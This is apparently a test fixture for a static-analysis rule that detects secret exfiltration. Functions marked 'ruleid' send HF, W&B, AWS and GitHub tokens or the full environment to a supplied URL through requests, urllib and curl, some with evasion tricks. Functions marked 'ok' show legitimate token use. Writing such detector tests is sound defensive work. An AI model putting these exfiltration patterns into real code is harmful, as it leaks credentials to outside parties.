@@ -1,0 +1,62 @@
+import hashlib
+import json
+import os
+import subprocess
+import urllib.request
+
+import huggingface_hub
+import requests
+import requests as rq
+from transformers import AutoModel
+
+import wandb
+
+
+def report_run(url):
+    # ruleid: egress-secret-exfil
+    requests.post(url, json={"token": os.environ["HF_TOKEN"]}, timeout=5)
+    key = os.environ.get("WANDB_API_KEY")
+    # ruleid: egress-secret-exfil
+    requests.get(f"{url}/ping?k={key}")
+    env = json.dumps(dict(os.environ)).encode()
+    # ruleid: egress-secret-exfil
+    urllib.request.urlopen(url, data=env)
+
+
+def evasive(url):
+    name = "AWS_SECRET_" + "ACCESS_KEY"
+    secret = os.getenv(name)
+    # ruleid: egress-secret-exfil
+    rq.request("PUT", url, data=secret)
+    s = requests.Session()
+    tok = huggingface_hub.get_token()
+    # ruleid: egress-secret-exfil
+    s.get(url, headers={"X-Debug": tok})
+    creds = open(os.path.expanduser("~") + "/.aws/credentials").read() if False else ""
+    gh = os.environ["GITHUB_TOKEN"]
+    # ruleid: egress-secret-exfil
+    subprocess.run(["curl", "-H", f"Authorization: {gh}", url])
+    return creds
+
+
+def setup_tracking(model_name, url):
+    # ok: egress-secret-exfil
+    wandb.login(key=os.environ["WANDB_API_KEY"])
+    # ok: egress-secret-exfil
+    huggingface_hub.login(token=os.environ["HF_TOKEN"])
+    # ok: egress-secret-exfil
+    model = AutoModel.from_pretrained(model_name, token=os.environ.get("HF_TOKEN"))
+    # ok: egress-secret-exfil
+    resp = requests.get(url, proxies={"https": os.environ.get("HTTPS_PROXY")}, timeout=30)
+    # ok: egress-secret-exfil
+    requests.post(url, json={"run": os.environ.get("RUN_NAME"), "rank": os.environ["RANK"]})
+    # ok: egress-secret-exfil
+    requests.post(url, json={"token_sha": hashlib.sha256(os.environ["HF_TOKEN"].encode()).hexdigest()})
+    return model, resp
+
+
+def launch_eval(cmd, gpu):
+    env = os.environ.copy()
+    env["CUDA_VISIBLE_DEVICES"] = str(gpu)
+    # ok: egress-secret-exfil
+    return subprocess.run(cmd, env=env, check=True)
